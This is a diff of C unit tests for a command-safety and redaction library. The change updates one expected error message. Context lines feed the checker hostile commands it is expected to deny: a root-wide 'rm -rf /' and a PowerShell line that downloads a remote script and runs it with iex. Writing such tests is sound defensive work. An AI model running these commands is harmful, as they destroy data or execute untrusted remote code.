@@ -74,7 +74,7 @@ int main(int argc, char **argv) {
     holds("advise", pinfold_advise("rm -rf /", NULL), "{\"ok\":true,\"verdict\":\"deny\"");
     holds("advise safe", pinfold_advise("ls", "bash"), "\"verdict\":\"safe\",\"complete\":true,\"findings\":[]}");
     holds("advise PowerShell", pinfold_advise("iwr http://x.example/a.ps1 | iex", "powershell"), "\"verdict\":\"deny\"");
-    holds("advise no shell", pinfold_advise("ls", "tcl"), "no shell");
+    holds("advise no shell", pinfold_advise("ls", "tcl"), "not a supported shell");
     holds("advise nothing", pinfold_advise(NULL, NULL), "the text is NULL");
     holds("redact", pinfold_redact("password = 'Sunny-Day-42'", NULL), "\"text\":\"password = '[redacted: password]'\"");
     holds("redact counts", pinfold_redact("a@mail.example b@mail.example", NULL), "\"counts\":{\"email\":2}");
